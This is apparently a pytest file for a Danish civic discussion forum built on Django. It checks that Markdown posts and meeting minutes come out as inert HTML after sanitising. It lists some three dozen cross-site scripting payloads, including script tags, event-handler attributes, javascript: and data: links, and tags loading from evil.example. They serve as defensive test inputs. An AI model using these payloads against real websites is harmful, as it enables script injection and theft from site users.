"""Posts and minutes are Markdown, rendered once and sanitised with nh3. Every payload below
must come out inert: only allow-listed tags and attributes, only http/https/mailto links,
no event handlers, no script, style, image, frame, form or SVG elements. The check parses
the output as a browser would, so a payload cannot hide in odd spelling."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from dialogrum import services
from dialogrum.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">klik</a>',
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java&#x09;script:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    '[klik](http://example.dk "titel" onmouseover="alert(1)")',
    '[klik](http://example.dk"onmouseover="alert(1))',
    "![billede](javascript:alert(1))",
    "![billede](http://tracker.example/pixel.png)",
    "<a href=x onmouseover=alert(1)>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=p></form>",
    "<object data=x></object><embed src=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    '<http://example.dk/"onmouseover="alert(1)>',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_inert(html: str) -> None:
    parser = _Collector()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> in {html!r}"
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, f"attribute {name} on <{tag}> in {html!r}"
            if name == "href":
                scheme = (value or "").split(":", 1)[0].strip().lower() if ":" in (value or "") else ""
                assert scheme in {"", "http", "https", "mailto"}, f"href {value!r} in {html!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_post_renders_to_inert_html(payload):
    assert_inert(render_markdown(payload))


def test_typed_html_is_shown_as_text_not_silently_dropped():
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_ordinary_markdown_still_works_and_links_get_a_safe_rel():
    html = render_markdown("**Fed** og *kursiv*\n\n- et\n- to\n\n[Slagelse](https://www.slagelse.dk)")
    assert "<strong>Fed</strong>" in html and "<em>kursiv</em>" in html and "<li>to</li>" in html
    assert '<a href="https://www.slagelse.dk" rel="nofollow noopener noreferrer ugc">Slagelse</a>' in html


def test_headings_start_below_the_pages_own_headings():
    assert render_markdown("# Stor overskrift") == "<h3>Stor overskrift</h3>"


def test_every_payload_is_inert_on_the_thread_page_too(client, public_room, citizen):
    """End to end: posted through the service, read through the page, title included."""
    client.force_login(citizen)
    thread = services.thread_create(
        room_id=public_room.pk, author=citizen, title="<script>alert('titel')</script>", body=PAYLOADS[0]
    )
    for payload in PAYLOADS[1:]:
        services.post_reply(thread_id=thread.pk, author=citizen, body=payload)
    page = client.get(reverse("dialogrum:thread_detail", args=[thread.pk]) + "?side=1").content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(&#x27;titel&#x27;)&lt;/script&gt;" in page
    parser = _Collector()
    parser.feed(page[page.index('id="posts"') : page.index('id="no-replies"')])
    assert len(parser.tags) > len(PAYLOADS)  # the region was really parsed
    for tag, attrs in parser.tags:
        assert tag not in {"script", "img", "iframe", "svg", "style", "object", "embed", "math", "meta", "base", "link"}
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name == "href":
                assert not (value or "").lower().lstrip().startswith(("javascript", "data", "vbscript")), value


def test_meeting_minutes_are_sanitised_the_same_way(public_room, coordinator):
    import datetime as dt

    from django.utils import timezone

    start = timezone.now() - dt.timedelta(days=1)
    meeting = services.meeting_create(
        room_id=public_room.pk,
        actor=coordinator,
        data={
            "title": "Møde",
            "starts_at": start,
            "ends_at": start + dt.timedelta(hours=1),
            "location": "Rådhuset",
        },
    )
    meeting = services.meeting_minutes_save(meeting_id=meeting.pk, actor=coordinator, minutes="\n\n".join(PAYLOADS))
    assert_inert(meeting.minutes_html)
